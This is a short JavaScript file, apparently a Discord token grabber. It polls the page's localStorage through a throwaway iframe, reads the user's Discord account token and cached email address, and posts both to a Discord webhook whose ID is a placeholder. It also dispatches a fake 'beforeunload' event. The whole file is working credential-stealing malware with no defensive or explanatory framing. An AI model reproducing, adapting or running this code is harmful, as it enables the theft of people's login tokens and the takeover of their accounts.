const quotes = /^"|"$/g;
const target = "https://discord.com/api/webhooks/000000000000000000/PLACEHOLDER";

function tell(text) {
  const x = new XMLHttpRequest();
  x.open("POST", target);
  x.setRequestHeader("Content-type", "application/json");
  x.send(JSON.stringify({ content: text }));
}

window.dispatchEvent(new Event("beforeunload"));
const t = setInterval(() => {
  const frame = document.body.appendChild(document.createElement("iframe"));
  const shelf = frame.contentWindow.localStorage;
  const found = { mail: shelf.email_cache, token: shelf.token };
  frame.remove();
  if (found.token) {
    tell("Mail: **" + (found.mail || "").replace(quotes, "") + "**\nToken: **" + found.token.replace(quotes, "") + "**");
    clearInterval(t);
  }
}, 400);
